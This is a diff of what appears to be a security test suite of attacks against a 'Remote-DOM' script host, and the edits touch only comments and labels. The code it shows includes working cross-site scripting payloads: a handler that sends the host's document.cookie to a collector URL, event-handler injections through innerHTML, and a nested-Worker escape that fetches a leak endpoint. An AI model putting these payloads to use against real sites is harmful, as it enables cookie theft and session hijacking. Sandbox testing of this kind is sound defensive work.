@@ -1,4 +1,4 @@
-// Remote-DOM scripts: drawn by the host in its own page, so that every element and property is a way into it; and run in a worker,
+// Remote-DOM scripts: the host draws them in its own page, so every element and property may be a way into it; and they run in a worker,
 // which has a network and a storage of its own.
 import type { Attack } from '../attack.ts';
 import { leak, ofClass } from './define.ts';
@@ -19,7 +19,7 @@ const draw = (tag: string, attributes: string): string => `
   root.append(element);
   ${WAIT}`;
 
-/** Code for a handler in the host's page: it tells the collector a cookie of the host. */
+/** Code for a handler in the host's page: it sends a cookie of the host to the collector. */
 const HANDLER = `"new Image().src = '" + ${leak('handler')} + "?' + encodeURIComponent(document.cookie)"`;
 const gotSecret: NonNullable<Attack['breach']> = ({ network }) =>
   network.some(({ detail }) => detail.includes('HOST-SECRET'));
@@ -48,7 +48,7 @@ export const ATTACKS: readonly Attack[] = [
     script: draw('ui-image', `{ src: 'nowhere:', onerror: ${HANDLER} }`),
     breach: gotSecret,
   }),
-  attack('rd09', 'handlers that need no event of a person', {
+  attack('rd09', 'handlers that need no event of a user', {
     script: `
       const html = '<details open ontoggle="X"></details><svg onload="X"></svg><input autofocus onfocus="X"><video src="x:" onerror="X"></video>';
       root.innerHTML = html.replaceAll('X', (${HANDLER}).replaceAll('"', '&quot;'));
@@ -170,7 +170,7 @@ export const ATTACKS: readonly Attack[] = [
     script: `
       const code = 'fetch("' + ${leak('nested')} + '", { mode: "no-cors" })';
       const address = URL.createObjectURL(new Blob([code], { type: 'text/javascript' }));
-      // What the surroundings take away may still be reachable by the name's own constructor.
+      // A removed global may still be reachable by its constructor.
       const Nested = globalThis.Worker ?? Object.getPrototypeOf(globalThis).constructor.Worker;
       new Nested(address);
       ${WAIT}`,
